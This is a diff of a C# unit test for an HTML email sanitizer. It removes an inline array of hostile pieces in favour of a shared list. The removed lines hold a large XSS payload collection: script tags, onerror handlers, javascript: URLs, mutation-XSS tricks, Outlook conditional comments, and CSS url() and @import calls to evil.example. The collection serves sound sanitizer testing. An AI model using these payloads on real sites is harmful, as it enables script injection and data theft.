@@ -9,115 +9,10 @@ namespace FollowUp.UnitTests.Templates;
 /// <summary>Whatever comes in: nothing that runs, and nothing that fetches from anywhere but https (images by http are kept and warned of).</summary>
 public sealed partial class HostileMailTests
 {
-    /// <summary>Attacks, and pieces that are harmless alone.</summary>
-    public static readonly string[] Pieces =
-    [
-        "<script>alert(1)</script>",
-        "<SCRIPT/x src=https://evil.example/a.js>",
-        "<script><!--<script></script>--></script>",
-        "<scr<script></script>ipt>alert(1)</scr</script>ipt>",
-        "<<blink>script>alert(1)//<</script>",
-        "<img src=x onerror=alert(1)>",
-        "<img src=\"x\"onerror=\"alert(1)\"alt=\"\">",
-        "<img/src/onerror=alert(1)//>",
-        "<img src='x\" onerror=\"alert(1)'>",
-        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
-        "<a href=\"&#1;javascript:alert(1)\">x</a>",
-        "<a href=\"javascript&colon;alert(1)\">x</a>",
-        "<a href=vbscript:x>x</a><a href='data:text/html;base64,PHNjcmlwdD4='>x</a><a href='blob:x'>x</a>",
-        "<svg><style><img title=\"</style><img src=x onerror=alert(1)>\"></style></svg>",
-        "<svg/onload=alert(1)>",
-        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
-        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
-        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
-        "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
-        "<select><style></select><img src=x onerror=alert(1)></style>",
-        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><iframe src=javascript:alert(1)>",
-        "<object data=\"javascript:alert(1)\"></object><embed src=\"https://evil.example/x.swf\">",
-        "<base href=\"http://evil.example/\"><link rel=stylesheet href=\"http://evil.example/x.css\"><link rel=import href=https://evil.example>",
-        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\"><meta charset=utf-7>",
-        "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
-        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647\">x</div>",
-        "<div style=\"po\\73ition:f\\69xed\">x</div><div style='position/**/:/**/fixed'>x</div><div style=\"*position:sticky\">x</div>",
-        "<div style=\"--p:fixed;position:var(--p)\">x</div><div style='z-index:calc(9999*9999)'>x</div>",
-        "<div style=\"width:expression(alert(1))\">x</div><div style=\"width:e\\78pression(alert(1))\">x</div><div style='x:exp/**/ression(1)'>x</div>",
-        "<div style=\"behavior:url(http://evil.example/x.htc);-moz-binding:url(http://evil.example/x.xml#x)\">x</div>",
-        "<div style=\"background:url(javascript:alert(1))\">x</div><div style=\"background:u\\72l(http://evil.example/x)\">x</div>",
-        "<div style=\"background:url('http://evil.example/x')\">x</div><div style=\"background:URL( //evil.example/x )\">x</div>",
-        "<div style='background-image:image-set(\"http://evil.example/x\" 1x)'>x</div><div style='--u:\"http://evil.example/x\";background:src(var(--u))'>x</div>",
-        "<div style=\"background:url(https://a.example/x);background:url&#40;http://evil.example/y&#41;\">x</div>",
-        "<div data-followup-style=\"position:fixed;background:url(http://evil.example/x)\">x</div>",
-        "<style>@import url(http://evil.example/a.css);@\\69mport 'http://evil.example/b.css';</style>",
-        "<style>@import 'https://evil.example/a.css';@font-face{font-family:x;src:url(http://evil.example/x.woff)}</style>",
-        "<style>.a{color:red}</style/><script>alert(1)</script>",
-        "<style>.a{content:\"</style><img src=x onerror=alert(1)>\"}</style>",
-        "<style>/*</style><img src=x onerror=alert(1)>*/</style>",
-        "<style>a{b:\"\n\";position:fixed;c:\"}</style>",
-        "<style>a{/*}*/position:fixed}b{--x:{position:fixed}}@media all{a{b{position:fixed}}}</style>",
-        "<style media='x' onload=alert(1)>a{position:sticky}</style>",
-        "<!--[if mso]><script>alert(1)</script><![endif]-->",
-        "<!--[if IE]><img src=x onerror=alert(1)><td onclick=alert(1)><![endif]-->",
-        "<!--[if gte mso 9]><v:rect onclick=x href=\"javascript:alert(1)\"><v:fill src=\"http://evil.example/x\"/></v:rect><![endif]-->",
-        "<!--[if mso]>-<blink>-><script>alert(1)</script><![endif]-->",
-        "<!--[if mso]><!--><script>alert(1)</script><!--<![endif]-->",
-        "<![if true]><script>alert(1)</script><![endif]>",
-        "<!--><script>alert(1)</script>-->",
-        "<!---><img src=x onerror=alert(1)>-->",
-        "<!-- --!><img src=x onerror=alert(1)> -->",
-        "<?xml version=\"1.0\"?><?php echo \"><img src=x onerror=alert(1)>\" ?>",
-        "<![CDATA[><img src=x onerror=alert(1)>]]>",
-        "<xml id=x src=javascript:alert(1)></xml><o:p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>x</o:p>",
-        "<a href=\"https://x.example\" target=_blank ping=http://evil.example style=\"position:absolute;z-index:9999999\">x</a>",
-        "<img srcset=\"http://a.example/x 1x, javascript:alert(1) 2x\" src=https://x.example/a.png>",
-        "<video poster=http://evil.example/x src=http://evil.example/y><source src=http://evil.example/z></video><audio src=http://evil.example/x>",
-        "<table background=\"javascript:alert(1)\"><tr><td background=\"//evil.example/x\">x</table>",
-        "<body onload=alert(1) background=\"ftp://evil.example/x\"><html onclick=alert(1)>",
-        "<p title=\"<!--\">a</p><p title=\"--><img src=x onerror=alert(1)>\">",
-        "<plaintext><script>alert(1)</script>",
-        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
-        "<button popovertarget=x>x</button><div popover id=x>x</div><dialog open>x</dialog>",
-        "<b>",
-        "</b>",
-        "<table><tr><td>",
-        "</table>",
-        "<p>",
-        "</p>",
-        "<div>",
-        "</div>",
-        "\"",
-        "'",
-        "<",
-        ">",
-        "<!--",
-        "-->",
-        "<style>",
-        "</style>",
-        "</",
-        "<a href=\"",
-        "<p ",
-        "<!--[if mso]>",
-        "<![endif]-->",
-        "&lt;script&gt;",
-        "text",
-        " ",
-        "\n",
-        "=",
-        "/*",
-        "*/",
-        "{",
-        "}",
-        "\\",
-        "&#x3c;img onerror=x&#x3e;",
-    ];
-
-    private static readonly Gen<string> Piece = Gen.Int[0, Pieces.Length - 1].Select(i => Pieces[i]);
+    private static readonly Gen<string> Piece = Gen.Int[0, HostilePieces.All.Length - 1].Select(i => HostilePieces.All[i]);
 
     [Fact]
-    public void Nothing_hostile_survives_alone() => Pieces.ShouldAllBe(piece => Harm(MailSanitizer.Clean(piece).Html) == null);
+    public void Nothing_hostile_survives_alone() => HostilePieces.All.ShouldAllBe(piece => Harm(MailSanitizer.Clean(piece).Html) == null);
 
     [Fact]
     public void Nothing_hostile_survives_in_any_mixture() =>
@@ -145,7 +40,7 @@ public sealed partial class HostileMailTests
     [Fact]
     public void Nothing_hostile_comes_in_by_a_value()
     {
-        foreach (var piece in Pieces)
+        foreach (var piece in HostilePieces.All)
         {
             var variables = System.Text.Json.JsonSerializer.Serialize(new { v = piece });
             foreach (
